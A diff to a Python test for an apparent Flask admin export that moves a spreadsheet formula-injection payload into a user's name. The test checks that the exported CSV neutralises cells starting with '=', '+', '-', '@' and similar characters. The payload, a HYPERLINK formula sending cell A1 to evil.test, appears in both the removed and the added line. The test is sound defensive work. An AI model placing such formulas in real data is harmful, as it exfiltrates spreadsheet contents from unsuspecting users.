@@ -13,6 +13,9 @@ from flask.testing import FlaskClient
 
 from tests.checklist.expectations import EXPECTED
 from tests.checklist.world import World
+from tests.factories import account
+from trustivide.auth.models import User
+from trustivide.core.db import transaction
 from trustivide.workshops.cards import load_library
 
 ROOT = Path(__file__).parents[2]
@@ -144,12 +147,15 @@ def test_checklist_40_a_download_is_saved_and_its_name_is_harmless(world: World)
     assert json.loads(got["consent"].data)
 
 
-def test_checklist_35_what_staff_wrote_is_no_formula_either(world: World) -> None:
+def test_checklist_35_a_colleagues_name_is_no_formula_either(world: World) -> None:
     with world.restored():
-        reason = {"reason": '=HYPERLINK("http://evil.test?"&A1;"Klicka")'}
+        with transaction() as session:
+            user = account("support@trustivide.test")
+            session.get_one(User, user.id).name = '=HYPERLINK("http://evil.test?"&A1;"Klicka")'
+        reason = {"reason": "Alice ringde oss om sitt konto."}
         path = f"/admin/users/{world.ids['user_id']}/looks"
         assert world.open("support", path, "POST", data=reason).status_code == 303
         sent = world.open("privacy", "/admin/looks/export", "POST").data.decode("utf-8-sig")
     cells = [cell for row in csv.reader(io.StringIO(sent)) for cell in row]
-    assert any("HYPERLINK" in cell for cell in cells)
+    assert any("HYPERLINK" in cell for cell in cells), sent
     assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
